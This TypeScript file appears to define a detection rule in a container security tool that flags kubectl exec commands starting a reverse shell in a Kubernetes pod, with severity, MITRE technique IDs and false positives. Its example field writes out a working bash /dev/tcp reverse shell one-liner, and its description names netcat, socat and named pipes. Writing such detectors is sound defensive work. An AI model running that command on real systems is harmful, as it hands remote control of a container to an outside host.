import { callRule } from '../call-rule.ts';
import { aboutCall, shownCaller, shownObject } from '../claim.ts';
import { EXECS, execOf } from '../exec.ts';
import { reverseShellIn } from '../reverse-shell.ts';

/** A command, run in a container through the API, that hands a shell to another host. */
export const execReverseShell = callRule({
  id: 'exec-reverse-shell',
  title: 'Reverse shell started in a pod',
  sees: 'An exec whose command connects a shell to a network connection: /dev/tcp, netcat -e, socat, a named pipe, or the sockets of a scripting language. Probes of the host itself do not count; probes of another host, and terminals without a connection, count for less.',
  why: 'It has no ordinary use: somebody elsewhere now controls this container.',
  technique: [
    { id: 'T1059.004', name: 'Command and Scripting Interpreter: Unix Shell' },
    { id: 'T1095', name: 'Non-Application Layer Protocol' },
  ],
  // Critical would ask for the deletion of the workload. The shell is in one container, where a quarantine holds it.
  severity: 'high',
  confidence: 0.9,
  family: 'exec',
  conclusive: true,
  falsePositives: ['Security training and capture-the-flag environments', 'Red team exercises'],
  calls: EXECS,
  evenFailed: true,
  example: "kubectl exec -n shop cart-7d9f -- bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'",
  match: (signal) => {
    const exec = execOf(signal);
    const seen = exec?.line === undefined ? undefined : reverseShellIn(exec.line);
    if (exec === undefined || seen === undefined) return undefined;
    return {
      ...aboutCall(signal),
      because: [`${shownCaller(signal)}: ${seen.what} in ${shownObject(signal)}`, `the command is ${exec.shown}`],
      ...(seen.certain ? {} : { severity: 'medium', confidence: 0.45, conclusive: false }),
    };
  },
});
